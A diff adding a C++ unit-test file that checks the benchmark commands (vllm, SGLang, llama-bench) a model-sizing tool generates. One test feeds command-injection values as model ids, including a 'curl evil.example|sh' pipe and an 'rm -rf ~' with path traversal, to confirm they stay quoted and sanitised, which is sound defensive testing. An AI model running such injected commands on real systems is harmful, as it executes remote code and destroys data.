@@ -1,0 +1,253 @@
+// core/plan/verify.hpp: the benchmark beside each launch command (issue 31, item 2). The expected
+// command lines are written out flag by flag from the engines' own documentation and argument
+// parsers:
+//   llama-bench: ggml-org/llama.cpp@08d0baaca6745ecaec3a75cccf63b533646ead22 tools/llama-bench/README.md
+//     (-hf/-m, -ngl, -ncmoe/--n-cpu-moe, -ts <ts0/ts1/..>, -ctk/-ctv, -fa, -p, -n, -d, -o json; the
+//     JSON result rows carry n_prompt, n_gen, n_depth and avg_ts);
+//   vllm bench serve: vllm-project/vllm@009e6d4a1cd6ba3fb2a9fc00f4ec06f5297232a1 vllm/benchmarks/serve.py
+//     (--model, --max-concurrency, --ignore-eos, --save-result, --result-filename; BenchmarkMetrics'
+//     mean_ttft_ms, mean_tpot_ms, output_throughput) and
+//     @237145ea190a901f93c570f157091fe43835bc63 vllm/benchmarks/datasets/arg_utils.py (--num-prompts,
+//     --dataset-name random, --random-input-len, --random-output-len; --random-range-ratio 0.0 by default);
+//   sglang.bench_serving: sgl-project/sglang@0033168f0f58b2bc05aa0273bd475d9c01bafb1c
+//     python/sglang/bench_serving.py (--backend, --model, --dataset-name random, --random-input-len,
+//     --random-output-len, --random-range-ratio, --num-prompts, --max-concurrency, --output-file; the
+//     result's mean_ttft_ms, mean_tpot_ms, output_throughput).
+// The figures compared are read from the estimate the command checks (formula catalog).
+#include <catch2/catch.hpp>
+
+#include <string>
+
+#include "fuzz/sh_words.hpp"
+#include "test_support.hpp"
+#include "format.hpp"
+#include "launch.hpp"
+#include "verify.hpp"
+
+using namespace cardfit;
+using cardfit::test::formula::catalog;
+using cardfit::test::formula::model;
+using cardfit::test::formula::run;
+
+namespace {
+
+struct Row {
+  Estimate e;
+  GpuEstimate g;
+  std::vector<LaunchCommand> launch;
+  std::optional<VerifyCommand> verify;
+};
+
+Row row(Scenario s, const std::string& gpu, const Catalog& c = catalog()) {
+  s.gpu = gpu;
+  s.explain = false;
+  Row r{run(s), {}, {}, {}};
+  REQUIRE(r.e.gpus.size() == 1);
+  r.g = r.e.gpus[0];
+  r.launch = launch_commands(c, r.e.scenario, r.g);
+  r.verify = verify_for(c, r.e.scenario, r.g, r.launch);
+  return r;
+}
+
+std::string n(std::int64_t v) { return std::to_string(v); }
+
+std::vector<std::string> words(const VerifyCommand& v) {
+  std::vector<std::string> out;
+  for (const ShellWord& w : v.argv) out.push_back(w.text);
+  return out;
+}
+
+// The word after `flag` in a command's words ("" when the flag is not there).
+std::string after(const std::vector<ShellWord>& argv, const std::string& flag) {
+  for (std::size_t i = 0; i + 1 < argv.size(); ++i) {
+    if (argv[i].text == flag) return argv[i + 1].text;
+  }
+  return "";
+}
+
+}  // namespace
+
+TEST_CASE("verify: vllm bench serve with the scenario's prompt, output and concurrency", "[verify]") {
+  Scenario s;
+  s.concurrency = 8;
+  s.prompt = 1024;
+  const Row r = row(s, "a100-80g");
+  REQUIRE(r.launch.size() == 1);
+  REQUIRE(r.verify);
+  const VerifyCommand& v = *r.verify;
+  CHECK(v.tool == VerifyTool::VllmBenchServe);
+  CHECK(v.launch == LaunchKind::Vllm);
+  // 8 sequences x 4 requests each = 32 prompts; no --output-tokens: llama-bench's 128 generated tokens.
+  CHECK(words(v) == std::vector<std::string>{"vllm", "bench", "serve", "--model", "Qwen/Qwen2.5-7B-Instruct",
+                                             "--dataset-name", "random", "--random-input-len", "1024",
+                                             "--random-output-len", "128", "--num-prompts", "32",
+                                             "--max-concurrency", "8", "--ignore-eos", "--save-result",
+                                             "--result-filename", "cardfit-verify.json"});
+  CHECK(v.text == render_sh(v.argv));
+  CHECK(after(v.argv, "--model") == r.launch[0].argv.at(2).text);  // the model the server serves
+  REQUIRE(v.compare.size() == 3);
+  CHECK(v.compare[0].field == "mean_ttft_ms");
+  CHECK(v.compare[0].figure == "ttft_ms");
+  CHECK(v.compare[0].predicted == Approx(r.g.ttft_ms));
+  CHECK(v.compare[0].unit == "ms");
+  CHECK(v.compare[1].field == "mean_tpot_ms");
+  CHECK(v.compare[1].predicted == Approx(1000.0 / r.g.decode_tokens_per_s));
+  CHECK(v.compare[1].unit == "ms");
+  CHECK(v.compare[2].field == "output_throughput");
+  CHECK(v.compare[2].figure == "aggregate_tokens_per_s");
+  CHECK(v.compare[2].predicted == Approx(r.g.aggregate_tokens_per_s));
+  CHECK(v.compare[2].unit == "tok/s");
+  for (const VerifyCompare& c : v.compare) CHECK(c.select.empty());
+}
+
+TEST_CASE("verify: SGLang's bench_serving with fixed lengths, within the server's context", "[verify]") {
+  Scenario s;
+  s.engine = "sglang";
+  s.concurrency = 2;
+  s.output_tokens = 256;
+  s.prompt = 2048;
+  s.context = 2048;  // a prompt as long as the context: one token less, so the output fits
+  const Row r = row(s, "a100-80g");
+  REQUIRE(r.verify);
+  CHECK(r.verify->tool == VerifyTool::SglangBenchServing);
+  // 2 x 4 = 8 requests, below the floor of 16.
+  CHECK(r.verify->text ==
+        "python -m sglang.bench_serving --backend sglang --model Qwen/Qwen2.5-7B-Instruct --dataset-name random "
+        "--random-input-len 2047 --random-output-len 1 --random-range-ratio 1 --num-prompts 16 "
+        "--max-concurrency 2 --output-file cardfit-verify.jsonl");
+  s.context = 4096;
+  s.prompt = 1024;
+  const Row wide = row(s, "a100-80g");
+  REQUIRE(wide.verify);
+  CHECK(after(wide.verify->argv, "--random-input-len") == "1024");
+  CHECK(after(wide.verify->argv, "--random-output-len") == "256");
+  CHECK(after(wide.verify->argv, "--model") == after(wide.launch.at(0).argv, "--model-path"));
+  REQUIRE(wide.verify->compare.size() == 3);
+  CHECK(wide.verify->compare[0].predicted == Approx(wide.g.ttft_ms));
+}
+
+TEST_CASE("verify: llama-bench with the server's layers, MoE offload, cache types and depth", "[verify]") {
+  Scenario s;
+  s.model = "qwen3-30b-a3b";
+  s.precision = "q4_k_m";
+  s.engine = "llama.cpp";
+  s.offload = Offload::automatic();
+  s.kv_precision = "int8";
+  s.prompt = 512;
+  const Row r = row(s, "rtx-4050-laptop");
+  REQUIRE(r.g.offload);
+  REQUIRE(r.g.offload->n_cpu_moe > 0);
+  REQUIRE(r.verify);
+  const VerifyCommand& v = *r.verify;
+  CHECK(v.tool == VerifyTool::LlamaBench);
+  CHECK(v.launch == LaunchKind::LlamaServer);
+  const std::string ngl = after(r.launch.at(0).argv, "-ngl");
+  REQUIRE(!ngl.empty());
+  // Decode at depth 4096 - 128 = 3968: the last token generated sees the scenario's full context.
+  CHECK(v.text == "llama-bench -m Qwen3-30B-A3B-Q4_K_M.gguf -ngl " + ngl + " --n-cpu-moe " +
+                      n(r.g.offload->n_cpu_moe) + " -ctk q8_0 -ctv q8_0 -fa on -p 512 -n 128 -d 0,3968 -o json");
+  REQUIRE(v.compare.size() == 2);
+  CHECK(v.compare[0].field == "avg_ts");
+  CHECK(v.compare[0].select == "n_prompt=512 n_gen=0 n_depth=0");
+  CHECK(v.compare[0].figure == "prefill_tokens_per_s");
+  CHECK(v.compare[0].predicted == Approx(r.g.prefill_tokens_per_s));
+  CHECK(v.compare[1].select == "n_prompt=0 n_gen=128 n_depth=3968");
+  CHECK(v.compare[1].figure == "decode_tokens_per_s");
+  CHECK(v.compare[1].predicted == Approx(r.g.decode_tokens_per_s));
+  CHECK(v.compare[1].unit == "tok/s");
+
+  // Two cards: llama-bench takes the split as 1/1 (a ',' would make two tests of it).
+  Scenario two;
+  two.model = "qwen3-32b";
+  two.precision = "q8_0";
+  two.engine = "llama.cpp";
+  two.cards = 2;
+  two.context = 128;
+  two.prompt = 64;
+  const Row t = row(two, "rtx-3090");
+  REQUIRE(t.g.cards == 2);
+  REQUIRE(t.verify);
+  CHECK(after(t.launch.at(0).argv, "--tensor-split") == "1,1");
+  CHECK(after(t.verify->argv, "-ts") == "1/1");
+  CHECK(after(t.verify->argv, "-n") == "128");
+  CHECK(after(t.verify->argv, "-d") == "0");  // a context of 128: nothing before the generated tokens
+}
+
+TEST_CASE("verify: a hostile model id or file stays one quoted word", "[verify]") {
+  Catalog c = catalog();
+  Model* m = const_cast<Model*>(c.find_model("qwen2.5-7b"));
+  REQUIRE(m != nullptr);
+  const std::string evil = "meta-llama/x $(touch /tmp/p) ; curl -s evil.example|sh #";
+  m->hf_repo = evil;
+  m->gguf_repo = "it's";
+  for (const char* engine : {"vllm", "sglang", "llama.cpp"}) {
+    Scenario s;
+    s.engine = engine;
+    s.precision = std::string(engine) == "llama.cpp" ? "q4_k_m" : "bf16";
+    const Row r = row(s, "a100-80g", c);
+    REQUIRE(r.verify);
+    CAPTURE(r.verify->text);
+    const auto split = fuzz::sh_split(r.verify->text);
+    REQUIRE(split);
+    CHECK(*split == r.verify->argv);  // sh gives back exactly the words meant
+    if (std::string(engine) == "llama.cpp") {
+      CHECK(r.verify->text.rfind("llama-bench -hf 'it'\\''s:Q4_K_M' -ngl ", 0) == 0);
+    } else {
+      CHECK(after(r.verify->argv, "--model") == evil);
+      CHECK(r.verify->text.find(" --model 'meta-llama/x $(touch /tmp/p) ; curl -s evil.example|sh #' ") !=
+            std::string::npos);
+    }
+  }
+  // No GGUF repository: a file name cardfit chooses, of plain characters only.
+  m->gguf_repo.clear();
+  m->hf_repo = "../../etc/passwd; rm -rf ~";
+  Scenario s;
+  s.engine = "llama.cpp";
+  s.precision = "q4_k_m";
+  const Row r = row(s, "a100-80g", c);
+  REQUIRE(r.verify);
+  const std::string file = after(r.verify->argv, "-m");
+  CHECK(file == "passwd__rm_-rf__-Q4_K_M.gguf");
+  CHECK(sh_word({file, false}) == file);
+  CHECK(file == after(r.launch.at(0).argv, "-m"));
+}
+
+TEST_CASE("verify: no benchmark without a launch command, for files, training or other engines", "[verify]") {
+  Scenario big;
+  big.model = "llama-3.1-405b";
+  big.cards = 1;
+  const Row none = row(big, "rtx-4090");
+  CHECK(none.launch.empty());
+  CHECK_FALSE(none.verify);
+  CHECK_FALSE(verify_for(catalog(), none.e.scenario, none.g, {}));
+
+  for (const char* engine : {"transformers", "tensorrt-llm", "lmdeploy", "ollama"}) {
+    Scenario s;
+    s.engine = engine;
+    s.precision = std::string(engine) == "ollama" ? "q4_k_m" : "";
+    CAPTURE(engine);
+    CHECK_FALSE(row(s, "a100-80g").verify);
+  }
+  Scenario lora;
+  lora.task = Task::Lora;
+  lora.cards = 1;
+  const Row l = row(lora, "a100-80g");
+  CHECK_FALSE(l.launch.empty());
+  CHECK_FALSE(l.verify);
+
+  // A file is never benchmarked, even of an inference engine's kind.
+  Scenario s;
+  const Row r = row(s, "a100-80g");
+  LaunchCommand file{LaunchKind::Vllm, "x.json", "{}", {}};
+  CHECK_FALSE(verify_command(catalog(), r.e.scenario, r.g, file));
+}
+
+TEST_CASE("verify: each comparison reads as a sentence with the figure", "[verify]") {
+  const VerifyCompare ttft{"mean_ttft_ms", "", "ttft_ms", 152.4, "ms"};
+  CHECK(render(compare_message(ttft), Lang::En) == "mean_ttft_ms in its output vs cardfit's ttft_ms: " +
+                                                       format_rate(152.4) + " ms");
+  const VerifyCompare pp{"avg_ts", "n_prompt=512 n_gen=0 n_depth=0", "prefill_tokens_per_s", 2400.5, "tok/s"};
+  const std::string zh = render(compare_message(pp), Lang::Zh);
+  CHECK(zh.find("n_prompt=512 n_gen=0 n_depth=0") != std::string::npos);
+  CHECK(zh.find(format_rate(2400.5) + " tok/s") != std::string::npos);
+}
